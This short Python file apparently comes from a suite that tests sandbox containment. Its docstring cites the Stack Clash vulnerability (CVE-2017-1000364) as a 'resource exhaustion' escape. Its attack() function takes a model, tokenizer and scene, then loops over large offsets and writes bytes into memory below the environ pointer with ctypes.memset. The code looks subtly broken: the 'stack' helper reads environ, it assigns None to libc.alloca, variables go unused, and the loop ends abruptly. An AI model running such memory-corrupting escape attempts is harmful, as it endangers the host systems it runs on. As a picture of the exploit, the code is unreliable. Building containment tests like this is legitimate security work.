"""Class: resource exhaustion. Source: CVE-2017-1000364 (Stack Clash). Escape: a stack grows
through its guard into what lies below.
Limits: timeout_s=2
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def _stack():
    return ctypes.c_void_p.in_dll(libc, "environ").value or 0


def attack(model, tokenizer, scene):
    at = ctypes.addressof(ctypes.c_int())
    libc.alloca = None
    for offset in range(1 << 16, 1 << 30, 1 << 16):
        here = ctypes.addressof(ctypes.create_string_buffer(1))
        ctypes.memset(_stack() - offset, 1, 1)
